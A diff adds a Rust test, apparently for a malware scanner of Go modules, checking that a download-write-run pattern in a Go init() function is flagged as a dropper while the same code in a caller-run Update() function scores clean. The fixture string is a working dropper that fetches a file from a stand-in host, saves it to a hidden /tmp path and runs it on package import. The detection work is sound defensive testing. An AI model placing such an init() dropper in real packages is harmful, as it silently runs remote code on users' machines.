@@ -308,3 +308,27 @@ fn a_stealer_that_blinds_defender_and_hides_from_analysts_is_flagged() {
         ids(&analysis)
     );
 }
+
+#[test]
+fn a_go_init_that_downloads_writes_and_runs_is_a_dropper() {
+    let dropper = "package utilz\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tresp, err := http.Get(\"https://dl.files.example/agent\")\n\tif err != nil {\n\t\treturn\n\t}\n\tf, _ := os.Create(\"/tmp/.agent\")\n\tio.Copy(f, resp.Body)\n\tf.Close()\n\texec.Command(\"/tmp/.agent\").Start()\n}\n";
+    let analysis = go_module(dropper);
+    assert!(has(&analysis, "correlate/download-write-run"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        ids(&analysis)
+    );
+
+    // The same steps in a function the caller runs are an updater's.
+    let updater = dropper.replace("func init()", "func Update()");
+    let analysis = go_module(&updater);
+    assert!(!has(&analysis, "correlate/download-write-run"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        ids(&analysis)
+    );
+}
